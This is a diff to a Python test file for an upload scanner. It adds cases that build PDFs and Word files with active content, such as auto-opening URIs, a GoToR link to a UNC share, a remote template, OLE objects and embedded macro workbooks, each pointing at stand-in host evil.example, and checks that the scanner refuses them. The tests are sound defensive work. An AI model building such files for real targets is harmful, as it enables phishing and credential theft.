@@ -163,7 +163,48 @@ def _docx_with_macro() -> bytes:
     return out.getvalue()
 
 
+def _docx_with(*parts: tuple[str, bytes | str]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("word/document.xml", "<w:document/>")
+        for name, content in parts:
+            archive.writestr(name, content)
+    return out.getvalue()
+
+
+def _rels(kind: str, target: str) -> str:
+    return ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+            f'Target="{target}" TargetMode="External"/></Relationships>')
+
+
+def _pdf_with_link() -> bytes:
+    """A PDF whose page carries a hyperlink the reader clicks (allowed: it opens nothing by itself)."""
+    from pypdf import PdfWriter
+    from pypdf.annotations import Link
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    link = Link(rect=(50, 50, 200, 70), url="https://ninhbinh.gov.vn")
+    writer.add_annotation(0, link)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
 @pytest.mark.parametrize("check, data, words", [
+    # review S12: files that call out to other servers when opened
+    (lambda d: inspect_pdf(d, "a.pdf"), _pdf_with({"/S": "/URI", "/URI": "http://evil.example/dang-nhap"}), "tự mở địa chỉ"),
+    (lambda d: inspect_pdf(d, "a.pdf"), _pdf_with({"/S": "/GoToR", "/F": "\\\\evil.example\\share\\x.pdf"}), "GoToR"),
+    (lambda d: inspect_pdf(d, "a.pdf"), _pdf_with({"/S": "/GoToE", "/F": "x.pdf"}), "GoToE"),
+    (lambda d: inspect_pdf(d, "a.pdf"), blank_pdf() + b"PK\x03\x04" + b"\x00" * 30, "dữ liệu lạ sau phần kết thúc"),
+    (lambda d: inspect_office(d, "a.docx", "word/document.xml"),
+     _docx_with(("word/_rels/settings.xml.rels", _rels("attachedTemplate", "http://evil.example/t.dotm"))), "lấy nội dung từ nơi khác"),
+    (lambda d: inspect_office(d, "a.docx", "word/document.xml"),
+     _docx_with(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 60)), "OLE"),
+    (lambda d: inspect_office(d, "a.docx", "word/document.xml"),
+     _docx_with(("word/embeddings/Book1.xlsx", _docx_with(("xl/workbook.xml", "<w/>"), ("xl/vbaProject.bin", b"x")))), "macro"),
+
     (lambda d: inspect_pdf(d, "a.pdf"), _pdf_with({"/S": "/JavaScript", "/JS": "this.submitForm('http://evil')"}),
      "JavaScript"),
     (lambda d: inspect_pdf(d, "a.pdf"), _pdf_with(javascript="app.alert(1)"), "JavaScript"),
@@ -172,7 +213,8 @@ def _docx_with_macro() -> bytes:
     (lambda d: inspect_image(d, "a.png", "PNG"), PNG + b"<html><script>alert(1)</script></html>", "dữ liệu lạ"),
     (lambda d: inspect_image(d, "a.png", "PNG"), b"\x89PNG\r\n\x1a\n<html></html>", "không phải ảnh PNG"),
     (lambda d: inspect_office(d, "a.docx", "word/document.xml"), _docx_with_macro(), "macro"),
-], ids=["pdf-open-action-js", "pdf-names-js", "pdf-launch", "pdf-html", "png-trailing-html", "png-truncated",
+], ids=["pdf-open-uri", "pdf-gotor-share", "pdf-gotoe", "pdf-zip-appended", "docx-remote-template", "docx-ole",
+        "docx-embedded-macro-workbook", "pdf-open-action-js", "pdf-names-js", "pdf-launch", "pdf-html", "png-trailing-html", "png-truncated",
         "docx-macro"])       # named, not by their bytes: a zip's timestamp differs between test processes
 def test_active_content_is_refused(check, data, words):
     with pytest.raises(UnsafeFile) as error:
@@ -184,6 +226,12 @@ def test_clean_files_pass():
     inspect_pdf(blank_pdf(), "a.pdf")
     inspect_image(PNG, "a.png", "PNG")
     inspect_pdf(_pdf_with(), "b.pdf")
+    inspect_pdf(_pdf_with_link(), "c.pdf")                                       # a link the reader clicks
+    inspect_pdf(_pdf_with({"/S": "/GoTo", "/D": "dau"}), "d.pdf")                 # a jump inside the file
+    inspect_pdf(blank_pdf() + b"\r\n", "e.pdf")                                  # a trailing new line
+    inspect_office(_docx_with(("word/_rels/document.xml.rels", _rels("hyperlink", "https://ninhbinh.gov.vn")),
+                              ("word/embeddings/Chart1.xlsx", _docx_with(("xl/workbook.xml", "<w/>")))),
+                   "f.docx", "word/document.xml")                                 # a link and a chart's workbook
 
 
 def _files(engine, unit="sxd"):
